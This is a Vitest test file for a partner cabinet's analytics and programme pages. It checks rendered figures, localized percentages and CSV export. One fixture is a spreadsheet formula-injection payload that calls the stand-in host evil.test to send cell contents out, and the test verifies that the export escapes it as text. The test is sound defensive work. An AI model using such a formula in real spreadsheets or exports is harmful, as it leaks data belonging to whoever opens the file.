import { screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { HttpResponse, http } from 'msw';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { tableCsv } from '../../src/components/tableExport';
import { formatPrice } from '../../src/format';
import { PartnerAnalyticPage } from '../../src/resources/partnerCabinet/PartnerAnalyticPage';
import { PartnerProgramPage } from '../../src/resources/partnerCabinet/PartnerProgramPage';
import { createTestProviders } from './msw/providers';
import { gw, server, setupMswServer } from './msw/server';
import { COMPONENT_TEST, RENDER_WAIT, identityWith, renderWithAdmin } from './test-utils';

setupMswServer();
beforeEach(() => localStorage.clear());

const PARTNER = '22222222-2222-4222-8222-222222222222';
const STATS = {
  totalCost: 2000,
  brutto: 1900,
  reward: 190,
  netto: 1710,
  count: 2,
  averageCheck: 950,
  services: { count: 0, cost: 0 },
  rates: [{ id: 'r1', name: 'Базовый', count: 2, cost: 1900 }],
  sales: [{ date: '2025-03-01', count: 2, cost: 1900 }],
  partners: [],
  agents: { totalRevenue: 0, totalCertificates: 0, top: [] },
  period: { from: '2025-03-01', to: '2025-03-31' },
};
const row = (number: string, cost: number, reward: number, client = 'Клиент; Отчета') => ({ id: number, rate: 'Базовый', number, client, phone: '79130000001', email: null, cost, reward, startDate: '2025-03-01T10:00:00.000Z', finishDate: null });
// a client's name is typed by whoever sold: a formula must reach the CSV as text (issue 23)
const FORMULA = '=HYPERLINK("http://evil.test/?"&A2,"Open")';
const REPORT = { rows: [row('ST-1', 900, 90), row('ST-2', 1000, 100, FORMULA)], totals: { cost: 1900, reward: 190 }, period: STATS.period };
const PROGRAM = {
  partner: { id: PARTNER, name: 'Бета Партнер' },
  terms: [{ rateId: 'r1', name: 'Базовый', period: 12, price: 1200.5, commission: 10 }],
  links: { shop: `http://localhost/cabinet/#/shop?partner=${PARTNER}` },
  widget: { snippet: `<div class="certificates-widget" data-partner="${PARTNER}" data-view="button"></div>`, cards: `<div class="certificates-widget" data-partner="${PARTNER}" data-view="cards"></div>`, script: 'http://localhost/gw/widget/widget.js' },
  materials: [{ id: 'd1', original_name: 'Презентация.pdf', size: 10, partner_id: PARTNER }],
  consent: { clickProgram: true, agents: 4, accepted: 3 },
};

const render = (ui: React.ReactElement, locale: 'ru' | 'kk' | 'en' = 'ru') => {
  const { dataProvider } = createTestProviders({});
  return renderWithAdmin(ui, { dataProvider, cabinet: 'cpa', identity: identityWith(['PARTNER'], { partnerId: PARTNER }), locale });
};

describe('partner cabinet /analytic (L3)', () => {
  it('paints its own programme figures, then the charts, and the report', COMPONENT_TEST, async () => {
    const asked: string[] = [];
    server.use(
      http.get(gw('/partners/:id/stats'), ({ params }) => {
        asked.push(String(params.id));
        return HttpResponse.json(STATS);
      }),
      http.get(gw('/partner/conversion'), () => HttpResponse.json({ created: 4, paid: 2, rate: 50 })),
      http.get(gw('/report/partner/:id/:from/:to'), () => HttpResponse.json(REPORT)),
    );
    render(<PartnerAnalyticPage />);
    expect(await screen.findByTestId('figure-brutto', {}, RENDER_WAIT)).toHaveTextContent(formatPrice(1900));
    expect(screen.getByTestId('figure-count')).toHaveTextContent('2');
    expect(screen.getByTestId('figure-rewardEarned')).toHaveTextContent(formatPrice(190));
    await waitFor(() => expect(screen.getByTestId('figure-conversion')).toHaveTextContent('50'));
    expect(await screen.findByRole('table', { name: 'По тарифам' }, RENDER_WAIT)).toBeInTheDocument();
    expect(await screen.findByText('ST-1', {}, RENDER_WAIT)).toBeInTheDocument();
    expect(screen.getByTestId('report-totals')).toHaveTextContent(formatPrice(1900));
    expect(new Set(asked)).toEqual(new Set([PARTNER]));
  });

  it('exports the report as CSV with the rows and the totals it shows', COMPONENT_TEST, async () => {
    server.use(
      http.get(gw('/partners/:id/stats'), () => HttpResponse.json(STATS)),
      http.get(gw('/partner/conversion'), () => HttpResponse.json({ created: 4, paid: 2, rate: 50 })),
      http.get(gw('/report/partner/:id/:from/:to'), () => HttpResponse.json(REPORT)),
    );
    const blobs: Blob[] = [];
    URL.createObjectURL = vi.fn((blob: Blob) => {
      blobs.push(blob);
      return 'blob:csv';
    });
    URL.revokeObjectURL = vi.fn();
    const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
    render(<PartnerAnalyticPage />);
    await screen.findByText('ST-1', {}, RENDER_WAIT);
    const reportSection = screen.getByTestId('report-totals').parentElement!;
    await userEvent.setup().click(within(reportSection).getByRole('button', { name: 'CSV' }));
    await waitFor(() => expect(blobs).toHaveLength(1));
    const lines = (await blobs[0]!.text()).replace(/^\uFEFF/, '').trim().split('\r\n');
    expect(lines[0]).toBe('Тариф;Номер;Клиент;Телефон;Email;Стоимость;Вознаграждение;Дата начала;Дата окончания');
    expect(lines[1]).toBe(`Базовый;ST-1;"Клиент; Отчета";'+7 (913) 000-00-01;;900.00;90.00;01.03.2025;`);
    expect(lines[2]).toBe(`Базовый;ST-2;"'=HYPERLINK(""http://evil.test/?""&A2,""Open"")";'+7 (913) 000-00-01;;1000.00;100.00;01.03.2025;`);
    expect(lines.at(-1)).toBe('Итого;;;;;1900.00;190.00;;');
    click.mockRestore();
  });
});

describe('numbers in the cabinet’s language (issue 27)', () => {
  for (const [locale, conversion, commission] of [['ru', '77,8 %', '12,5 %'], ['en', '77.8%', '12.5%']] as const) {
    it(`writes the conversion and the commission as ${conversion} and ${commission} in ${locale}`, COMPONENT_TEST, async () => {
      server.use(
        http.get(gw('/partners/:id/stats'), () => HttpResponse.json(STATS)),
        http.get(gw('/partner/conversion'), () => HttpResponse.json({ created: 9, paid: 7, rate: 77.8 })),
        http.get(gw('/report/partner/:id/:from/:to'), () => HttpResponse.json(REPORT)),
        http.get(gw('/partner/program'), () => HttpResponse.json({ ...PROGRAM, terms: [{ ...PROGRAM.terms[0], commission: 12.5 }] })),
      );
      const analytic = render(<PartnerAnalyticPage />, locale);
      await waitFor(() => expect(screen.getByTestId('figure-conversion')).toHaveTextContent(conversion), RENDER_WAIT);
      analytic.unmount();
      render(<PartnerProgramPage />, locale);
      const terms = await screen.findByRole('table', {}, RENDER_WAIT);
      expect(within(terms).getByText(commission)).toBeInTheDocument();
    });
  }
});

describe('partner cabinet /program (L3)', () => {
  it('shows the terms, the referral link, the widget, the materials and the consent status', COMPONENT_TEST, async () => {
    server.use(http.get(gw('/partner/program'), () => HttpResponse.json(PROGRAM)));
    render(<PartnerProgramPage />);
    const terms = await screen.findByRole('table', { name: 'Условия' }, RENDER_WAIT);
    expect(within(terms).getByText('Базовый').closest('tr')).toHaveTextContent(formatPrice(1200.5));
    expect(screen.getByDisplayValue(PROGRAM.links.shop)).toBeInTheDocument();
    expect(screen.getByDisplayValue(PROGRAM.widget.snippet)).toBeInTheDocument();
    expect(screen.getByDisplayValue(PROGRAM.widget.cards)).toBeInTheDocument();
    expect(screen.getByText('Презентация.pdf')).toBeInTheDocument();
    expect(screen.getByTestId('program-consent')).toHaveTextContent('приняли 3 из 4');
  });

  it('builds the terms CSV with the numbers the table shows', () => {
    const csv = tableCsv([{ header: 'Цена', value: (term: { price: number }) => term.price, money: true }], [{ price: 1200.5 }]);
    expect(csv).toBe('\uFEFFЦена\r\n1200.50\r\n');
  });
});
